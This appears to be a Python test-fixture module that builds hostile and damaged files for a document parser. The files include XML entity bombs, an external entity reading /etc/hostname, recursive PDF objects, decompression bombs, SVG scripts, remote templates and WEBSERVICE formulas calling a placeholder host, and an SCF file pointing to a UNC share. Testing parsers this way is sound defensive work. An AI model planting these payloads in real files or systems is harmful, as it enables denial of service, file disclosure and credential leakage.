"""More damaged and hostile files: what draws itself, unpacks to much, loops, or asks for something outside."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
from collections.abc import Callable

from PIL import Image

from flows.model import Condition
from tests.forms.grid_kit import compound, packed, record, xls, xls_number, xlsb
from tests.gather.kit import junk, word, workbook
from tests.gather.scan_kit import ods, odt, with_members
from tests.gather.spoilt_pdfs import catalog_with, page_with, raw, stream

Case = tuple[str, bytes, Condition]
_GOOD, _BAD, _REFUSED, _OTHER = Condition.GOOD, Condition.DAMAGED, Condition.REFUSED, Condition.WRONG_EXTENSION
_DOCX, _XLSX, _XLSB = word("Laporan contoh"), workbook([["Nama", "Jumlah"], ["Satu", 1]]), xlsb({0: [(5, 0, bytes(8))]})
_CELLS = {"Rekap": [xls_number(0, 0, 1.0)]}
_LAUGHS = (
    b"<?xml version='1.0'?><!DOCTYPE r [<!ENTITY a 'aaaaaaaaaa'>"
    + b"".join(b"<!ENTITY %c '%s'>" % (98 + step, b"&%c;" % (97 + step) * 10) for step in range(10))
    + b"]><r>&k;</r>"
)
_QUADRATIC = b"<?xml version='1.0'?><!DOCTYPE r [<!ENTITY a '%s'>]><r>%s</r>" % (b"a" * 50_000, b"&a;" * 50_000)
_OUTSIDE = b"<?xml version='1.0'?><!DOCTYPE r [<!ENTITY a SYSTEM 'file:///etc/hostname'>]><r>&a;</r>"


def _page(use: bytes, kind: bytes, *objects: bytes) -> bytes:
    """A page whose content ``use`` draws a resource ``A`` of this kind: the first of ``objects``, number 5."""
    parts = {f"p{number}": content for number, content in enumerate((stream(use), *objects))}
    return page_with(b"/Contents 4 0 R/Resources<</%s<</A 5 0 R>>>>" % kind, **parts)


def _picture(packing: bytes, content: bytes) -> bytes:
    shape = b"/Subtype/Image/Width 3000/Height 3000/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/" + packing
    return _page(b"/A Do", b"XObject", stream(content, shape))


def _svg(content: bytes, root: bytes = b"") -> bytes:
    names = b"xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
    return b"<svg %s %s>%s</svg>" % (names, root, content)


def _rtf(content: bytes) -> bytes:
    return b"{\\rtf1\\ansi Laporan contoh " + content + b"}"


def _formula(formula: bytes) -> bytes:
    row = b'<row r="9"><c r="A9"><f>%s</f><v>1</v></c></row></sheetData>' % formula
    return with_members(_XLSX, {"xl/worksheets/sheet1.xml": lambda part: part.replace(b"</sheetData>", row)})


def _relation(kind: bytes, target: bytes) -> Callable[[bytes], bytes]:
    base = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    added = b'<Relationship Id="rX" Type="%s%s" Target="%s" TargetMode="External"/>' % (base, kind, target)
    return lambda part: part.replace(b"</Relationships>", added + b"</Relationships>")


def _outside(kind: bytes, target: bytes) -> bytes:
    return with_members(_DOCX, {"word/_rels/document.xml.rels": _relation(kind, target)})


def _zip(method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        archive.writestr("a.txt", "Laporan contoh " * 90)
    return target.getvalue()


def _scans(count: int) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (64, 64)).save(target, "JPEG", progressive=True)
    source = target.getvalue()
    return source[:-2] + source[source.rindex(b"\xff\xda") : -2] * count + b"\xff\xd9"


_ENDLESS_TABLE = (
    b"%PDF-1.5\n1 0 obj<</Type/XRef/Size 999999999/W[8 8 8]/Root 2 0 R/Index[0 999999999]/Length 3>>stream\nabc\n"
    b"endstream endobj\nstartxref\n9\n%%EOF"
)
_GIF = b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + b",\0\0\0\0\xff\xff\xff\xff\0\x02\x02L\x01\0;"
_FORM = b"/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A 5 0 R>>>>"
_TILE = b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 1/YStep 1/Resources<</Pattern<</A 5 0 R>>>>"
_LETTERS = (
    b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]"
    b"/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</A 5 0 R>>>>>>"
)
_MASKED = b"/Subtype/Form/BBox[0 0 9 9]/Group<</S/Transparency/CS/DeviceRGB>>/Resources<</ExtGState<</A 5 0 R>>>>"
_SHADED = b"<</ShadingType 2/ColorSpace/DeviceRGB/Coords[0 0 9 9]/Function 6 0 R>>"
_STITCHED = b"<</FunctionType 3/Domain[0 1]/Functions[6 0 R]/Bounds[]/Encode[0 1]>>"

CASES: dict[str, Case] = {
    "form that draws itself": ("pdf", _page(b"/A Do", b"XObject", stream(b"/A Do", _FORM)), _GOOD),
    "pattern filled with itself": (
        "pdf",
        _page(b"/Pattern cs /A scn 0 0 99 99 re f", b"Pattern", stream(b"/Pattern cs /A scn 0 0 9 9 re f", _TILE)),
        _GOOD,
    ),
    "letter that writes itself": (
        "pdf",
        _page(b"BT /A 9 Tf (a) Tj ET", b"Font", _LETTERS, stream(b"BT /A 9 Tf (a) Tj ET")),
        _GOOD,
    ),
    "mask masked by itself": (
        "pdf",
        _page(b"/A gs 0 0 9 9 re f", b"ExtGState", b"<</SMask<</S/Luminosity/G 6 0 R>>>>", stream(b"/A gs", _MASKED)),
        _GOOD,
    ),
    "function made of itself": ("pdf", _page(b"/A sh", b"Shading", _SHADED, _STITCHED), _GOOD),
    "colours made of themselves": (
        "pdf",
        _page(b"/A cs 1 sc 0 0 9 9 re f", b"ColorSpace", b"[/Indexed 5 0 R 1 (aaaaaa)]"),
        _GOOD,
    ),
    "picture packed as zeros": ("pdf", _picture(b"ASCII85Decode", b"z" * 3_000_000 + b"~>"), _GOOD),
    "picture packed by lengths": ("pdf", _picture(b"RunLengthDecode", b"\x81 " * 2_000_000 + b"\x80"), _GOOD),
    "picture of junk as JBIG2": ("pdf", _picture(b"JBIG2Decode", junk(5_000)), _GOOD),
    "picture of junk as JPEG 2000": ("pdf", _picture(b"JPXDecode", junk(5_000)), _GOOD),
    "picture of junk as a fax": ("pdf", _picture(b"CCITTFaxDecode", junk(5_000)), _GOOD),
    "rows of two milliards": (
        "pdf",
        page_with(
            b"/Contents 4 0 R",
            a=stream(b"q Q " * 99, b"/DecodeParms<</Predictor 15/Columns 2000000000/Colors 32>>", filters=1),
        ),
        _GOOD,
    ),
    "table of a milliard objects": (
        "pdf",
        _ENDLESS_TABLE,
        _BAD,
    ),
    "key of the future": (
        "pdf",
        raw(
            {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0>>"},
            b"/Encrypt<</Filter/Standard/V 99/R 99/O(a)/U(b)/P -1>>",
        ),
        _BAD,
    ),
    "form sent away": ("pdf", catalog_with(b"/OpenAction<</S/SubmitForm/F(https://contoh.invalid)>>"), _GOOD),
    "script spelled in digits": ("pdf", catalog_with(b"/Op#65nAction<</S/J#61vaScript/JS(x)>>"), _GOOD),
    "milliard of letters": ("xml", _LAUGHS, _GOOD),
    "milliard of letters in a form of LibreOffice": ("fodt", _LAUGHS, _GOOD),
    "milliard of letters in properties": ("docx", with_members(_DOCX, {"docProps/core.xml": _LAUGHS}), _GOOD),
    "milliard of letters in styles": ("xlsx", with_members(_XLSX, {"xl/styles.xml": _LAUGHS}), _BAD),
    "two milliards of letters in one name": ("xml", _QUADRATIC, _GOOD),
    "two milliards of letters in a drawing": ("svg", _QUADRATIC, _GOOD),
    "two milliards of letters in properties": ("odt", with_members(odt("x"), {"meta.xml": _QUADRATIC}), _GOOD),
    "file of the computer": ("xml", _OUTSIDE, _GOOD),
    "file of the computer in a relation": (
        "docx",
        with_members(_DOCX, {"word/_rels/document.xml.rels": _OUTSIDE}),
        _GOOD,
    ),
    "drawing that acts at once": ("svg", _svg(b"", b"onload='x()'"), _GOOD),
    "drawing with a page in it": (
        "svg",
        _svg(b"<foreignObject><iframe src='https://contoh.invalid'/></foreignObject>"),
        _GOOD,
    ),
    "drawing with a link that acts": ("svg", _svg(b"<a xlink:href='javascript:x()'><text>x</text></a>"), _GOOD),
    "drawing with a picture from outside": ("svg", _svg(b"<image xlink:href='https://contoh.invalid/a.png'/>"), _GOOD),
    "drawing of 30,000 storeys": ("svg", _svg(b"<g>" * 30_000 + b"</g>" * 30_000), _GOOD),
    "drawing that uses itself": ("svg", _svg(b"<g id='a'><use xlink:href='#a'/></g>"), _GOOD),
    "drawing in wide letters": ("svg", _svg(b"<script>x()</script>").decode().encode("utf-16"), _GOOD),
    "drawing called png": ("png", _svg(b"<script>x()</script>"), _OTHER),
    "packed drawing": ("svgz", gzip.compress(_svg(b"<script>x()</script>"), mtime=0), _REFUSED),
    "rtf of 300,000 storeys": ("rtf", _rtf(b"{\\b " * 300_000 + b"}" * 300_000), _GOOD),
    "rtf of two milliards of bytes": ("rtf", _rtf(b"{\\pict\\bin2147483647 aaaa}"), _GOOD),
    "rtf of letters beyond all": ("rtf", _rtf(b"\\uc999999\\u65?" * 100_000), _GOOD),
    "formula that asks the internet": ("xlsx", _formula(b'_xlfn.WEBSERVICE("https://contoh.invalid")'), _GOOD),
    "formula that asks a program": ("xlsx", _formula(b'RTD("a.b",,"c")'), _GOOD),
    "formula that asks the internet in an ods": (
        "ods",
        ods(
            '<table:table table:name="a"><table:table-row><table:table-cell '
            'table:formula="of:=WEBSERVICE(&quot;https://contoh.invalid&quot;)"/></table:table-row></table:table>'
        ),
        _GOOD,
    ),
    "sheet that goes on everywhere": (
        "ods",
        ods(
            '<table:table table:name="a"><table:table-row table:number-rows-repeated="1048576"><table:table-cell '
            'table:number-columns-repeated="16384" office:value-type="float" office:value="1"/></table:table-row>'
            "</table:table>"
        ),
        _GOOD,
    ),
    "connections of an xlsb": ("xlsb", with_members(_XLSB, {"xl/connections.bin": b"\xad\x03\0"}), _GOOD),
    "query of an xlsb": ("xlsb", with_members(_XLSB, {"xl/queryTables/queryTable1.bin": b"\xbf\x03\0"}), _GOOD),
    "macros of an xlsb": ("xlsb", with_members(_XLSB, {"xl/macrosheets/sheet1.bin": b"\0"}), _GOOD),
    "another book of an xls": (
        "xls",
        xls(_CELLS, globals_=record(0x1AE, struct.pack("<HH", 1, 22) + b"\0https://contoh.invalid")),
        _GOOD,
    ),
    "texts of an xls without end": (
        "xls",
        xls(_CELLS, globals_=record(0xFC, struct.pack("<II", 2**32 - 1, 2**32 - 1))),
        _GOOD,
    ),
    "4,000 records of nothing": ("xls", xls(_CELLS, globals_=record(0x3C, b"") * 4_000), _GOOD),
    "slides without end": ("ppt", compound("PowerPoint Document", b"\x0f\0\xe8\x03\xff\xff\xff\xff" * 99), _GOOD),
    "template from outside": (
        "docx",
        with_members(
            _DOCX,
            {
                "word/_rels/settings.xml.rels": _relation(b"attachedTemplate", b"https://contoh.invalid/a.dotm")(
                    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
                )
            },
        ),
        _GOOD,
    ),
    "object from outside": ("docx", _outside(b"oleObject", b"mhtml:https://contoh.invalid/x!x"), _GOOD),
    "book of queries": ("iqy", b"WEB\n1\nhttps://contoh.invalid/\n", _REFUSED),
    "book of links": ("slk", b"ID;P\nO;E\nNN;NAuto_open;ER101C1\nE\n", _REFUSED),
    "picture that asks a server": ("scf", b"[Shell]\nIconFile=\\\\contoh.invalid\\x.ico\n", _REFUSED),
    "program of Java": ("jar", packed({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n"}), _REFUSED),
    "document packed once more": ("docx", gzip.compress(_DOCX, mtime=0), _REFUSED),
    "packed in an unknown way": ("zip", _zip(zipfile.ZIP_LZMA), _GOOD),
    "photo drawn 3,000 times": ("jpg", _scans(3_000), _GOOD),
    "animation of milliards of dots": ("gif", _GIF, _REFUSED),
    "one cell of 20 MB": ("csv", b'Nama,Jumlah\n"' + b"x" * 20_000_000, _GOOD),
    "300,000 equal names": ("json", b"{" + b'"a":1,' * 300_000 + b'"a":1}', _GOOD),
    "10,000 tables in each other": ("html", b"<html>" + b"<table><tr><td>" * 10_000, _GOOD),
}
